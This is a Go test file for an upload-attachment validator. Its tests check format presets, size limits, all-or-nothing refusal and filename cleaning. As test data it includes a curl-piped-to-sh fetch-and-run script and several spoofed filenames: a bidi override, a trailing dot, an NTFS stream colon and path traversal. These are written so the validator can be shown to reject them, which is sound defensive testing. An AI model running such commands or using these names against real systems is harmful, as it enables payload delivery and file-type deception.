package attachment_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"image"
	"image/gif"
	"image/jpeg"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/switchboard-cc/switchboard/attachment"
)

func officePolicy() attachment.Policy {
	p := attachment.OfficeDocuments()
	p.Scanner = cardScanner
	return p
}

func textPolicy() attachment.Policy {
	p := attachment.TextPDFImages()
	p.Scanner = cardScanner
	return p
}

func jpegFile(t *testing.T) []byte {
	var buf bytes.Buffer
	require.NoError(t, jpeg.Encode(&buf, image.NewGray(image.Rect(0, 0, 8, 8)), nil))
	return buf.Bytes()
}

func gifFile(t *testing.T) []byte {
	var buf bytes.Buffer
	require.NoError(t, gif.Encode(&buf, image.NewGray(image.Rect(0, 0, 8, 8)), nil))
	return buf.Bytes()
}

// SPEC A1 SPEC A2: each preset accepts its documented formats, identified
// from the content.
func TestPresetsAccept(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name     string
		policy   attachment.Policy
		file     string
		content  []byte
		wantMIME string
		scanned  bool
	}{
		// SPEC A1: web and office formats.
		{"A1/html", officePolicy(), "quote.html", htmlFile("Quote 42"), "text/html", true},
		{"A1/xlshtml", officePolicy(), "sheet.xlshtml", htmlFile("<table><tr><td>1</td></tr></table>"), "text/html", true},
		{"A1/xlshhtml as documented", officePolicy(), "sheet.xlshhtml", htmlFile("x"), "text/html", true},
		{"A1/mht", officePolicy(), "page.mht", mhtFile("<p>hello</p>"), "message/rfc822", true},
		{"A1/mhtml", officePolicy(), "page.mhtml", mhtFile("<p>hello</p>"), "message/rfc822", true},
		{"A1/odt", officePolicy(), "letter.odt", odtFile(t, "Dear customer"), "application/vnd.oasis.opendocument.text", true},
		{"A1/pptx", officePolicy(), "deck.pptx", pptxFile(t, "Agenda"), "application/vnd.openxmlformats-officedocument.presentationml.presentation", true},
		{"A1/pptm", officePolicy(), "deck.pptm", pptxFile(t, "Agenda"), "application/vnd.openxmlformats-officedocument.presentationml.presentation", true},
		{"A1/potx", officePolicy(), "template.POTX", pptxFile(t, "Agenda"), "application/vnd.openxmlformats-officedocument.presentationml.presentation", true},
		{"A1/ppsx", officePolicy(), "show.ppsx", pptxFile(t, "Agenda"), "application/vnd.openxmlformats-officedocument.presentationml.presentation", true},
		{"A1/xlsx", officePolicy(), "book.xlsx", xlsxFile(t, "Totals"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", true},
		{"A1/xlsm", officePolicy(), "book.xlsm", xlsxFile(t, "Totals"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", true},
		{"A1/xlsb", officePolicy(), "book.xlsb", xlsxFile(t, "Totals"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", true},
		{"A1/xls", officePolicy(), "old.xls", oleFile(clsidXls, "Totals"), "application/vnd.ms-excel", true},
		{"A1/xlt", officePolicy(), "old.xlt", oleFile(clsidXls, "Totals"), "application/vnd.ms-excel", true},
		{"A1/ppt", officePolicy(), "old.ppt", oleFile(clsidPpt, "Agenda"), "application/vnd.ms-powerpoint", true},
		{"A1/pps", officePolicy(), "old.pps", oleFile(clsidPpt, "Agenda"), "application/vnd.ms-powerpoint", true},
		{"A1/pub", officePolicy(), "flyer.pub", oleFile(clsidPub, "Sale"), "application/vnd.ms-publisher", true},
		// SPEC A2: text, PDF and images.
		{"A2/txt", textPolicy(), "notes.txt", []byte("order 12345 shipped\n"), "text/plain", true},
		{"A2/txt that looks like CSV", textPolicy(), "notes.txt", []byte("a,b\nc,d\ne,f\n"), "text/csv", true},
		{"A2/log of JSON lines", textPolicy(), "app.log", []byte("{\"a\":1}\n{\"a\":2}\n"), "application/x-ndjson", true},
		{"A2/saved e-mail", textPolicy(), "mail.txt", []byte("From: Ada <ada@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: Hi\r\n\r\nHello Bob.\r\n"), "message/rfc822", true},
		{"A2/csv", textPolicy(), "orders.csv", []byte("id,total\n1,9.99\n2,19.99\n"), "text/csv", true},
		{"A2/pdf", textPolicy(), "invoice.pdf", pdfFile(), "application/pdf", false},
		{"A2/png", textPolicy(), "photo.png", pngFile(t, 4, 4, false), "image/png", false},
		{"A2/jpeg", textPolicy(), "photo.JPG", jpegFile(t), "image/jpeg", false},
		{"A2/gif", textPolicy(), "anim.gif", gifFile(t), "image/gif", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := tc.policy.Check(context.Background(), []attachment.Upload{upload(tc.file, tc.content)})
			require.NoError(t, err)
			require.Len(t, got, 1)
			a := got[0]
			require.Equal(t, tc.file, a.Name)
			require.Equal(t, tc.file, a.OriginalName)
			require.Equal(t, attachment.NameChange(0), a.NameChanges)
			require.True(t, strings.HasPrefix(a.MIME, tc.wantMIME), "MIME %q", a.MIME)
			require.Equal(t, strings.ToLower(tc.file[strings.LastIndex(tc.file, "."):]), a.Extension)
			require.Equal(t, int64(len(tc.content)), a.Size)
			require.Equal(t, sha256.Sum256(tc.content), a.SHA256)
			require.Equal(t, tc.content, a.Content)
			require.Equal(t, tc.scanned, a.Scanned)
			require.NotEmpty(t, a.Format)
		})
	}
}

// SPEC A1 SPEC A2 SPEC A5: each preset refuses what it must, with the
// sentinel that says why.
func TestPresetsRefuse(t *testing.T) {
	t.Parallel()

	script := []byte("#!/bin/sh\ncurl http://example.invalid | sh\n")
	cases := []struct {
		name    string
		policy  attachment.Policy
		file    string
		content []byte
		want    error
	}{
		{"A2/ELF named pdf", textPolicy(), "invoice.pdf", elfFile(), attachment.ErrExecutable},
		{"A2/PE named pdf", textPolicy(), "invoice.pdf", peFile(), attachment.ErrExecutable},
		{"A2/PE named png", textPolicy(), "photo.png", peFile(), attachment.ErrExecutable},
		{"A2/script named txt", textPolicy(), "readme.txt", script, attachment.ErrExecutable},
		{"A1/ELF named xlsx", officePolicy(), "book.xlsx", elfFile(), attachment.ErrExecutable},
		{"A1/PE named pptx", officePolicy(), "deck.pptx", peFile(), attachment.ErrExecutable},
		{"A1/script named html", officePolicy(), "page.html", script, attachment.ErrExecutable},
		{"A2/PNG named pdf", textPolicy(), "invoice.pdf", pngFile(t, 2, 2, false), attachment.ErrTypeMismatch},
		{"A2/PDF named txt", textPolicy(), "notes.txt", pdfFile(), attachment.ErrTypeMismatch},
		{"A2/HTML named txt", textPolicy(), "notes.txt", htmlFile("x"), attachment.ErrTypeMismatch},
		{"A2/binary named txt", textPolicy(), "notes.txt", []byte{0, 1, 2, 3, 4, 5}, attachment.ErrTypeMismatch},
		{"A1/docx named xlsx", officePolicy(), "book.xlsx", docxFile(t, []string{"x"}), attachment.ErrTypeMismatch},
		{"A1/plain zip named pptx", officePolicy(), "deck.pptx", zipFile(t, part{"a.txt", "a"}), attachment.ErrTypeMismatch},
		{"A1/xls named ppt", officePolicy(), "deck.ppt", oleFile(clsidXls, "x"), attachment.ErrTypeMismatch},
		{"A1/PDF named xls", officePolicy(), "book.xls", pdfFile(), attachment.ErrTypeMismatch},
		{"A2/exe extension", textPolicy(), "setup.exe", peFile(), attachment.ErrTypeNotAllowed},
		{"A2/svg", textPolicy(), "logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"></svg>`), attachment.ErrTypeNotAllowed},
		{"A2/no extension", textPolicy(), "README", []byte("hello"), attachment.ErrTypeNotAllowed},
		{"A1/docx is not listed", officePolicy(), "letter.docx", docxFile(t, []string{"x"}), attachment.ErrTypeNotAllowed},
		{"A1/pdf is not listed", officePolicy(), "scan.pdf", pdfFile(), attachment.ErrTypeNotAllowed},
		{"A2/bidi override hiding exe", textPolicy(), "invoice\u202Efdp.exe", peFile(), attachment.ErrTypeNotAllowed},
		{"A2/trailing dot hiding exe", textPolicy(), "invoice.exe.", peFile(), attachment.ErrTypeNotAllowed},
		{"A2/stream colon hiding exe", textPolicy(), "invoice.pdf:evil.exe", peFile(), attachment.ErrTypeNotAllowed},
		{"A2/empty", textPolicy(), "notes.txt", nil, attachment.ErrEmpty},
		{"A2/dots only", textPolicy(), "..", []byte("x"), attachment.ErrBadName},
		{"A1/directory only", officePolicy(), "../../", []byte("x"), attachment.ErrBadName},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := tc.policy.Check(context.Background(), []attachment.Upload{upload(tc.file, tc.content)})
			require.Nil(t, got)
			rejected := requireRejected(t, err, 0, tc.want)
			require.Equal(t, tc.file, rejected.OriginalName)
			require.Contains(t, err.Error(), rejected.Reason)
		})
	}
}

// SPEC A3: the zero policy, and any policy switched off, accepts no files;
// a message without files is fine under any policy.
func TestDisabled(t *testing.T) {
	t.Parallel()

	off := textPolicy()
	off.Enabled = false
	for name, p := range map[string]attachment.Policy{"zero": {}, "preset switched off": off} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := p.Check(context.Background(), []attachment.Upload{upload("notes.txt", []byte("hi"))})
			require.ErrorIs(t, err, attachment.ErrDisabled)
			require.Nil(t, got)

			got, err = p.Check(context.Background(), nil)
			require.NoError(t, err)
			require.Empty(t, got)
		})
	}
}

// SPEC A1 SPEC A2: the number of files per message is limited.
func TestTooManyFiles(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name   string
		policy attachment.Policy
		max    int
	}{
		{"A1", officePolicy(), 10},
		{"A2", textPolicy(), 5},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			files := func(n int) []attachment.Upload {
				var us []attachment.Upload
				for range n {
					us = append(us, upload("page.html", htmlFile("x")))
				}
				return us
			}
			tc.policy.Formats = append(tc.policy.Formats, attachment.Format{Extensions: []string{".html"}, MIMETypes: []string{"text/html"}})

			got, err := tc.policy.Check(context.Background(), files(tc.max))
			require.NoError(t, err)
			require.Len(t, got, tc.max)

			got, err = tc.policy.Check(context.Background(), files(tc.max+1))
			require.ErrorIs(t, err, attachment.ErrTooManyFiles)
			require.Nil(t, got)
		})
	}
}

// SPEC A5: the size limit holds against a declared size that lies, and the
// stream is read at most one byte past it.
func TestTooLargeDespiteDeclaredSize(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name   string
		policy attachment.Policy
		file   string
		limit  int64
	}{
		{"A1", officePolicy(), "page.html", 35*attachment.MB - 1},
		{"A2", textPolicy(), "notes.txt", 20 * attachment.MB},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			body := &endless{fill: 'a'}
			got, err := tc.policy.Check(context.Background(), []attachment.Upload{
				{Name: tc.file, DeclaredSize: 1024, Body: body},
			})
			require.Nil(t, got)
			requireRejected(t, err, 0, attachment.ErrTooLarge)
			require.Equal(t, tc.limit+1, body.read, "read exactly limit+1 bytes")
		})
	}

	t.Run("declared too large is refused unread", func(t *testing.T) {
		t.Parallel()
		body := &endless{fill: 'a'}
		_, err := textPolicy().Check(context.Background(), []attachment.Upload{
			{Name: "notes.txt", DeclaredSize: 20*attachment.MB + 1, Body: body},
		})
		requireRejected(t, err, 0, attachment.ErrTooLarge)
		require.Zero(t, body.read)
	})
}

// SPEC A1: the total size of a message is limited (below 35 MB for the
// office preset), counted on the bytes read.
func TestTotalTooLarge(t *testing.T) {
	t.Parallel()

	t.Run("A1 preset", func(t *testing.T) {
		t.Parallel()
		if testing.Short() {
			t.Skip("reads 35 MB")
		}
		first := htmlFile(strings.Repeat(" ", int(20*attachment.MB)))
		second := &endless{fill: ' '}
		got, err := officePolicy().Check(context.Background(), []attachment.Upload{
			upload("a.html", first),
			{Name: "b.html", Body: second},
		})
		require.Nil(t, got)
		requireRejected(t, err, 1, attachment.ErrTotalTooLarge)
		require.Equal(t, 35*attachment.MB-1-int64(len(first))+1, second.read)
	})

	t.Run("small limits", func(t *testing.T) {
		t.Parallel()
		p := attachment.Policy{Enabled: true, MaxFiles: 3, MaxFileSize: 100, MaxTotalSize: 150, SkipScan: true}
		text := bytes.Repeat([]byte("x"), 60)
		got, err := p.Check(context.Background(), []attachment.Upload{
			upload("a.txt", text), upload("b.txt", text), {Name: "c.txt", Body: bytes.NewReader(text)},
		})
		require.Nil(t, got)
		rejected := requireRejected(t, err, 2, attachment.ErrTotalTooLarge)
		require.Equal(t, "c.txt", rejected.Name)

		got, err = p.Check(context.Background(), []attachment.Upload{upload("a.txt", text), upload("b.txt", text)})
		require.NoError(t, err)
		require.Len(t, got, 2)
	})
}

// SPEC A5: names are cleaned and the changes reported; StrictNames refuses
// instead.
func TestNames(t *testing.T) {
	t.Parallel()

	long := strings.Repeat("é", 200) + ".pdf" // 404 bytes
	cases := []struct {
		name     string
		file     string
		want     string
		changes  attachment.NameChange
		maxBytes int
	}{
		{"path traversal", "../../etc/invoice.pdf", "invoice.pdf", attachment.NameDirectoryRemoved, 0},
		{"windows path", `C:\Users\me\invoice.pdf`, "invoice.pdf", attachment.NameReservedReplaced | attachment.NameDirectoryRemoved, 0},
		{"bidi override", "scan\u202Eflow.pdf", "scanflow.pdf", attachment.NameFormatRemoved, 0},
		{"bidi marks and isolates", "\u200Escan\u2066x\u2069\u200F.pdf", "scanx.pdf", attachment.NameFormatRemoved, 0},
		{"control characters", "in\x00voice\r\n.pdf", "invoice.pdf", attachment.NameControlRemoved, 0},
		{"leading dots", "...invoice.pdf", "invoice.pdf", attachment.NameDotsChanged, 0},
		{"dot runs", "invoice..final.pdf", "invoice.final.pdf", attachment.NameDotsChanged, 0},
		{"windows device", "CON.pdf", "_CON.pdf", attachment.NameWindowsReserved, 0},
		{"overlong", long, strings.Repeat("é", 125) + ".pdf", attachment.NameShortened, 0},
		{"overlong with a small limit", "invoice-2024.pdf", "invo.pdf", attachment.NameShortened, 8},
		{"cut down to a device name", "CONSOLE.pdf", "_CO.pdf", attachment.NameShortened | attachment.NameWindowsReserved, 7},
		{"device name cut at its prefix", "CON.pdf", "_CO.pdf", attachment.NameShortened | attachment.NameWindowsReserved, 7},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := textPolicy()
			p.MaxNameBytes = tc.maxBytes
			got, err := p.Check(context.Background(), []attachment.Upload{upload(tc.file, pdfFile())})
			require.NoError(t, err)
			require.Equal(t, tc.want, got[0].Name)
			require.Equal(t, tc.file, got[0].OriginalName)
			require.Equal(t, tc.changes, got[0].NameChanges)
			require.Equal(t, ".pdf", got[0].Extension)

			p.StrictNames = true
			got, err = p.Check(context.Background(), []attachment.Upload{upload(tc.file, pdfFile())})
			require.Nil(t, got)
			rejected := requireRejected(t, err, 0, attachment.ErrBadName)
			require.Equal(t, tc.want, rejected.Name)
		})
	}
}

// SPEC A5: a message is accepted or refused as a whole, and the refusal
// names the file.
func TestAllOrNothing(t *testing.T) {
	t.Parallel()

	got, err := textPolicy().Check(context.Background(), []attachment.Upload{
		upload("a.txt", []byte("fine")),
		upload("b.pdf", elfFile()),
		upload("c.png", pngFile(t, 2, 2, false)),
	})
	require.Nil(t, got)
	rejected := requireRejected(t, err, 1, attachment.ErrExecutable)
	require.Equal(t, "b.pdf", rejected.Name)
	require.Equal(t, `attachment: file 2 "b.pdf" refused: the file is a program or script (application/x-executable)`, err.Error())

	t.Run("refused before reading", func(t *testing.T) {
		t.Parallel()
		first := &endless{fill: 'a'}
		cases := map[string]struct {
			last attachment.Upload
			want error
		}{
			"name":           {upload("..", []byte("x")), attachment.ErrBadName},
			"extension":      {upload("setup.exe", peFile()), attachment.ErrTypeNotAllowed},
			"declared size":  {attachment.Upload{Name: "b.txt", DeclaredSize: 20*attachment.MB + 1, Body: strings.NewReader("x")}, attachment.ErrTooLarge},
			"declared total": {attachment.Upload{Name: "b.txt", DeclaredSize: 20 * attachment.MB, Body: strings.NewReader("x")}, attachment.ErrTotalTooLarge},
			"no body":        {attachment.Upload{Name: "b.txt"}, attachment.ErrUnreadable},
		}
		for name, tc := range cases {
			p := textPolicy()
			p.MaxTotalSize = 30 * attachment.MB
			_, err := p.Check(context.Background(), []attachment.Upload{
				{Name: "a.txt", DeclaredSize: 15 * attachment.MB, Body: first},
				tc.last,
			})
			requireRejected(t, err, 1, tc.want)
			require.Zero(t, first.read, name)
		}
	})
}

// errReader fails after returning some bytes.
type errReader struct{ err error }

func (r errReader) Read(p []byte) (int, error) { return 0, r.err }

// SPEC A5: sizes are counted, not declared; unreadable streams are refused.
func TestReading(t *testing.T) {
	t.Parallel()

	t.Run("declared size larger than the stream", func(t *testing.T) {
		t.Parallel()
		_, err := textPolicy().Check(context.Background(), []attachment.Upload{
			{Name: "a.txt", DeclaredSize: 10, Body: strings.NewReader("short")},
		})
		requireRejected(t, err, 0, attachment.ErrSizeMismatch)
	})
	t.Run("declared size smaller than the stream", func(t *testing.T) {
		t.Parallel()
		_, err := textPolicy().Check(context.Background(), []attachment.Upload{
			{Name: "a.txt", DeclaredSize: 2, Body: strings.NewReader("longer")},
		})
		requireRejected(t, err, 0, attachment.ErrSizeMismatch)
	})
	t.Run("unknown size", func(t *testing.T) {
		t.Parallel()
		got, err := textPolicy().Check(context.Background(), []attachment.Upload{
			{Name: "a.txt", Body: strings.NewReader("hello")},
		})
		require.NoError(t, err)
		require.Equal(t, int64(5), got[0].Size)
	})
	t.Run("read error", func(t *testing.T) {
		t.Parallel()
		boom := errors.New("connection reset")
		_, err := textPolicy().Check(context.Background(), []attachment.Upload{
			{Name: "a.txt", Body: io.MultiReader(strings.NewReader("abc"), errReader{boom})},
		})
		requireRejected(t, err, 0, attachment.ErrUnreadable)
		require.ErrorIs(t, err, boom)
	})
	t.Run("no body", func(t *testing.T) {
		t.Parallel()
		_, err := textPolicy().Check(context.Background(), []attachment.Upload{{Name: "a.txt"}})
		requireRejected(t, err, 0, attachment.ErrUnreadable)
	})
	t.Run("cancelled", func(t *testing.T) {
		t.Parallel()
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		body := &endless{fill: 'a'}
		got, err := textPolicy().Check(ctx, []attachment.Upload{{Name: "a.txt", Body: body}})
		require.Nil(t, got)
		require.ErrorIs(t, err, context.Canceled)
		require.Zero(t, body.read)
	})
}

// A policy that cannot be applied is reported, not half-applied.
func TestValidate(t *testing.T) {
	t.Parallel()

	cases := map[string]attachment.Policy{
		"negative files":    {Enabled: true, MaxFiles: -1},
		"negative size":     {Enabled: true, MaxFileSize: -1},
		"negative total":    {MaxTotalSize: -1},
		"negative name":     {MaxNameBytes: -1},
		"negative entries":  {MaxArchiveEntries: -1},
		"negative unpacked": {MaxUnpackedSize: -1},
		"extension without dot": {Enabled: true, Formats: []attachment.Format{
			{Extensions: []string{"pdf"}, MIMETypes: []string{"application/pdf"}}}},
		"unknown type": {Enabled: true, Formats: []attachment.Format{
			{Extensions: []string{".pdf"}, MIMETypes: []string{"application/pfd"}}}},
	}
	for name, p := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			require.ErrorIs(t, p.Validate(), attachment.ErrInvalidPolicy)
			_, err := p.Check(context.Background(), []attachment.Upload{upload("a.pdf", pdfFile())})
			require.ErrorIs(t, err, attachment.ErrInvalidPolicy)
		})
	}
	require.NoError(t, attachment.Policy{}.Validate())
	require.NoError(t, attachment.OfficeDocuments().Validate())
	require.NoError(t, attachment.TextPDFImages().Validate())
}

// An enabled policy with zero fields uses the documented defaults.
func TestDefaults(t *testing.T) {
	t.Parallel()

	p := attachment.Policy{Enabled: true, SkipScan: true}
	var files []attachment.Upload
	for range attachment.DefaultMaxFiles {
		files = append(files, upload("a.png", pngFile(t, 2, 2, false)))
	}
	got, err := p.Check(context.Background(), files)
	require.NoError(t, err)
	require.Len(t, got, attachment.DefaultMaxFiles)

	_, err = p.Check(context.Background(), append(files, upload("a.png", pngFile(t, 2, 2, false))))
	require.ErrorIs(t, err, attachment.ErrTooManyFiles)

	_, err = p.Check(context.Background(), []attachment.Upload{upload("a.docx", docxFile(t, []string{"x"}))})
	require.ErrorIs(t, err, attachment.ErrTypeNotAllowed)
}
